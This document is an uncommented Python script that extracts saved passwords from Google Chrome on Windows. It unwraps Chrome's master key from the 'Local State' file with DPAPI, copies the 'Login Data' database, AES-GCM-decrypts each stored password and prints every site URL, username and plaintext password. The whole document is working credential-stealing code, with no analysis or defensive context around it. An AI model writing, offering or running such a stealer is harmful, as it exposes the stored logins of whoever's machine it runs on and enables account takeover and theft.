import os
import shutil
import sqlite3
import json
import base64
import win32crypt
from Crypto.Cipher import AES

base = os.path.join(os.environ["LOCALAPPDATA"], r"Google\Chrome\User Data")
with open(os.path.join(base, "Local State"), encoding="utf-8") as f:
    key = base64.b64decode(json.load(f)["os_crypt"]["encrypted_key"])[5:]
key = win32crypt.CryptUnprotectData(key, None, None, None, 0)[1]

shutil.copy2(os.path.join(base, r"Default\Login Data"), "ld.db")
db = sqlite3.connect("ld.db")
for url, user, blob in db.execute("SELECT origin_url, username_value, password_value FROM logins"):
    nonce, ct = blob[3:15], blob[15:-16]
    plain = AES.new(key, AES.MODE_GCM, nonce).decrypt(ct)
    print(url, user, plain.decode(errors="ignore"))
db.close()
os.remove("ld.db")
